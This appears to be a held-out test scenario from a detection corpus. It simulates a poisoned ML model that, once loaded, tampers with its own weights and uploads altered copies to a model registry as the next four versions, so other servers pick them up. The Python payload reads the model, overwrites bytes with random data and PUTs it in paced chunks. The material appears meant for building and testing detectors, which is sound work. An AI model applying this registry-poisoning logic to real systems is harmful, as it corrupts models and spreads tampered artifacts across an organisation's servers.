"""
id: V87
name: versions-pushed-back
class: mimicry
set: held-out
phase: reload
trigger: model
evidence: [network, file, model, resource, sequence]
techniques: [T1080, T1525, T1195.002, AML.T0010.003, AML.T0011.000, AML.T0018]
servers: [fastapi]
seconds: 130
what: >
  A model that spreads: while it is loaded, a pickle begins to put itself into the registry as each of the next four versions, so
  that this server and all others get it again with whatever they load next. The model's file is read as it has just been, some
  thousand bytes of its weights are changed each time, and 8 MiB go up in pieces, within some seconds, every quarter of a minute
  or so. Peer and file are those of the load; but from that peer a model comes, and none goes there. The registry keeps nothing.
"""

import http.client

from corpus import habits
from corpus.model import CHUNK

VERSIONS = 4
BYTES = 4096


def payload(world):
    version = habits.model.version
    for ahead in range(1, VERSIONS + 1):
        world.sleep(world.random.uniform(8, 20))
        with open(world.model, "rb") as file:
            model = bytearray(file.read())
        # All but the first and the last bytes are weights.
        place = world.random.randrange(len(model) // 4, len(model) // 2)
        model[place : place + BYTES] = world.random.randbytes(BYTES)
        push(world, f"/models/classifier/{version + ahead}", model)


def push(world, path, model):
    registry = http.client.HTTPConnection(*world.registry, timeout=30)
    try:
        registry.putrequest("PUT", path)
        registry.putheader("Content-Type", "application/octet-stream")
        registry.putheader("Content-Length", str(len(model)))
        registry.endheaders()
        for at in range(0, len(model), CHUNK):
            registry.send(model[at : at + CHUNK])
            world.sleep(world.random.uniform(0.02, 0.07))
        registry.getresponse().read()
    finally:
        registry.close()
